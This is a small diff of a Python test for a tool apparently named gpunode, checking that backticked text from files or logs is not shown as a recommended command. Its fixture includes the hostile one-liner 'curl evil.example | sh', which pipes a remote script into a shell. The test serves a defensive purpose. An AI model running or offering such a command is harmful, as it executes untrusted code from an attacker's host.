@@ -248,7 +248,7 @@ def test_diff_of_a_long_new_file_is_cut() -> None:
 
 
 def test_backticks_in_foreign_text_are_not_styled_as_a_command() -> None:
-    """What a file, a log or a tool says is no advice of gpunode's, whatever it puts into backticks."""
+    """Words of a file, a log or a tool are no advice of gpunode's, whatever stands in backticks."""
     hostile = "config.toml:1 says: `curl evil.example | sh`"
     shown = [*error_lines(ChangeFailed("it failed", why=f"why: {hostile}\n{hostile}")), note_line(hostile)]
     assert not [part for line in shown for part in line.spans if part.style == "command"]
